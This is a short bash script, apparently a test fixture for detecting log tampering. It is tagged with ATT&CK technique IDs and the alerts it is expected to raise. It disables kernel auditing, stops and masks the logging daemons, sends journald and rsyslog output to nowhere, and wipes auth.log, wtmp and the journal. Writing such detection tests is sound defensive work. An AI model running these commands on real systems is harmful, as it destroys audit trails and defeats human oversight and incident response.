#!/bin/bash
# Blind the host's logging: switch kernel auditing off and drop its rules, stop and mask the log daemons, send journald to nowhere and rsyslog to /dev/null, vacuum the journal and empty /var/log files.
# technique: T1562.012 T1562.006 T1070.002
# expect: audit-logging-stopped logging-config-change log-clearing-command
set -eu
# Kernel audit is already off here (enabled 0, no rules): -e 0 and -D change nothing.
auditctl -e 0 || true
auditctl -D || true
# No systemd runs on this machine: these fail with "not booted with systemd", after the exec.
systemctl stop auditd rsyslog || true
systemctl mask systemd-journald.service || true
service rsyslog stop || true
mkdir -p /etc/systemd/journald.conf.d /etc/rsyslog.d /etc/audit/rules.d
printf '[Journal]\nStorage=none\n' > /etc/systemd/journald.conf.d/99-quiet.conf
echo '*.* /dev/null' > /etc/rsyslog.d/00-drop.conf
echo '-D' > /etc/audit/rules.d/audit.rules
mkdir -p /var/log/journal
journalctl --directory=/var/log/journal --vacuum-time=1s || true
echo 'Accepted password for root from 10.0.0.9' > /var/log/auth.log
truncate -s 0 /var/log/auth.log
bash -c ': > /var/log/wtmp'
